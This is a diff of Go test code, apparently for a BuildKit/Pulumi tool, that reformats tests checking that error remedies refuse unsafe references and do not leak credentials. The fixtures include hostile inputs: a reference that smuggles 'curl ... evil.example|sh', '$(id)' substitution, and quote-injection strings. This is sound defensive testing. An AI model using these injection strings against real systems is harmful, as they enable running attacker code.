@@ -18,23 +18,62 @@ func TestARemedyToCopyDoesNothingElse(t *testing.T) {
 		err        error
 		want, lack string
 	}{
-		"a frontend":    {&buildkit.FrontendError{Reference: "evil.example/x:1"}, "pulumi config set --path 'buildkit:frontends[0]' evil.example/x:1", "valid"},
-		"IPv6":          {&buildkit.FrontendError{Reference: "[::1]:5000/x"}, "pulumi config set --path 'buildkit:frontends[0]' '[::1]:5000/x'", "valid"},
-		"a command":     {&buildkit.FrontendError{Reference: "evil.example/x;curl${IFS}evil.example|sh"}, "It is no valid reference", "config set"},
-		"substitution":  {&buildkit.FrontendError{Reference: "evil.example/$(id)"}, "It is no valid reference", "config set"},
-		"a second word": {&buildkit.FrontendError{Reference: "evil.example/x --plaintext"}, "It is no valid reference", "config set"},
-		"nothing":       {&buildkit.FrontendError{}, "It is no valid reference", "config set"},
-		"a registry":    {&buildkit.ReachError{Host: "127.0.0.1:5000", Address: here, Image: true}, `registries: [{ address: "127.0.0.1:5000" }]`, "correct"},
-		"a quote":       {&buildkit.ReachError{Host: `x" }], y: [{ "`, Address: here, Image: true}, "correct the name of its registry", "registries: ["},
+		"a frontend": {
+			&buildkit.FrontendError{Reference: "evil.example/x:1"},
+			"pulumi config set --path 'buildkit:frontends[0]' evil.example/x:1", "valid",
+		},
+		"IPv6": {
+			&buildkit.FrontendError{Reference: "[::1]:5000/x"},
+			"pulumi config set --path 'buildkit:frontends[0]' '[::1]:5000/x'", "valid",
+		},
+		"a command": {
+			&buildkit.FrontendError{Reference: "evil.example/x;curl${IFS}evil.example|sh"}, "It is no valid reference",
+			"config set",
+		},
+		"substitution": {
+			&buildkit.FrontendError{Reference: "evil.example/$(id)"}, "It is no valid reference", "config set",
+		},
+		"a second word": {
+			&buildkit.FrontendError{Reference: "evil.example/x --plaintext"}, "It is no valid reference", "config set",
+		},
+		"nothing": {&buildkit.FrontendError{}, "It is no valid reference", "config set"},
+		"a registry": {
+			&buildkit.ReachError{Host: "127.0.0.1:5000", Address: here, Image: true},
+			`registries: [{ address: "127.0.0.1:5000" }]`, "correct",
+		},
+		"a quote": {
+			&buildkit.ReachError{
+				Host: `x" }], y: [{ "`, Address: here, Image: true,
+			}, "correct the name of its registry",
+			"registries: [",
+		},
 		"a file": {&buildkit.ReachError{Location: "http://127.0.0.1/x?a=b#c", Host: "127.0.0.1:80", Address: here},
 			`named: { download: { location: "http://127.0.0.1/x?a=b#c" } }`, "of that host"},
-		"a repository":      {&buildkit.ReachError{Location: "git@127.0.0.1:x.git", Address: here}, `location: "ssh://git@127.0.0.1/x.git" }`, "of that host"},
-		"interpolation":     {&buildkit.ReachError{Location: "http://127.0.0.1/${password}", Address: here}, "name a file or repository of that host", "location: "},
-		"a template":        {&buildkit.ReachError{Location: "http://127.0.0.1/{{ .x }}", Address: here}, "name a file or repository of that host", "location: "},
-		"a quote in a file": {&buildkit.ReachError{Location: `http://127.0.0.1/"+x+"`, Address: here}, "name a file or repository of that host", "location: "},
-		"a lookup that fails": {&buildkit.ReachError{Location: "http://slow.example/x", Host: "slow.example:80", Cause: errors.New("no answer within 10s")},
-			`slow.example:80 may be this machine or a metadata service, because its addresses could not be looked up: no answer within 10s. Correct its ` +
-				`name or this machine's DNS, and try again. If it is meant, name it in the program`, "asks for it"},
+		"a repository": {
+			&buildkit.ReachError{Location: "git@127.0.0.1:x.git", Address: here},
+			`location: "ssh://git@127.0.0.1/x.git" }`, "of that host",
+		},
+		"interpolation": {
+			&buildkit.ReachError{Location: "http://127.0.0.1/${password}", Address: here},
+			"name a file or repository of that host", "location: ",
+		},
+		"a template": {
+			&buildkit.ReachError{Location: "http://127.0.0.1/{{ .x }}", Address: here},
+			"name a file or repository of that host", "location: ",
+		},
+		"a quote in a file": {
+			&buildkit.ReachError{Location: `http://127.0.0.1/"+x+"`, Address: here},
+			"name a file or repository of that host", "location: ",
+		},
+		"a lookup that fails": {
+			&buildkit.ReachError{
+				Location: "http://slow.example/x", Host: "slow.example:80", Cause: errors.New("no answer within 10s"),
+			},
+			`slow.example:80 may be this machine or a metadata service, ` +
+				`because its addresses could not be looked up: no answer within 10s. Correct its name or this ` +
+				`machine's DNS, and try again. If it is meant, name it in the program`,
+			"asks for it",
+		},
 	}
 	for name, c := range cases {
 		got := explainRefusal(c.err, Config{}).Error()
@@ -46,9 +85,13 @@ func TestARemedyToCopyDoesNothingElse(t *testing.T) {
 
 func TestWarningsOfLocations(t *testing.T) {
 	t.Parallel()
-	files := inputs.Files{Context: "https://files.example/a.tgz?token=c4n4ry", Named: map[string]string{"lib": "https://me:c4n4ry@git.example/r.git"}}
+	files := inputs.Files{
+		Context: "https://files.example/a.tgz?token=c4n4ry",
+		Named:   map[string]string{"lib": "https://me:c4n4ry@git.example/r.git"},
+	}
 	tokens, logins := tokenWarnings(files), loginWarnings(files)
-	if len(tokens) != 1 || !strings.HasPrefix(tokens[0], "context.location: ") || !strings.Contains(tokens[0], "HTTP_AUTH_TOKEN_files.example") {
+	if len(tokens) != 1 || !strings.HasPrefix(tokens[0], "context.location: ") || !strings.Contains(tokens[0],
+		"HTTP_AUTH_TOKEN_files.example") {
 		t.Error(tokens)
 	}
 	for _, word := range []string{"provenance", "disk", "contextHash", "secret mount"} {
@@ -56,7 +99,8 @@ func TestWarningsOfLocations(t *testing.T) {
 			t.Errorf("%s lacks %s", tokens[0], word)
 		}
 	}
-	if len(logins) != 1 || !strings.HasPrefix(logins[0], "context.named") || !strings.Contains(logins[0], "GIT_AUTH_TOKEN.git.example") {
+	if len(logins) != 1 || !strings.HasPrefix(logins[0], "context.named") ||
+		!strings.Contains(logins[0], "GIT_AUTH_TOKEN.git.example") {
 		t.Error(logins)
 	}
 	if all := strings.Join(append(tokens, logins...), ""); strings.Contains(all, "c4n4ry") {
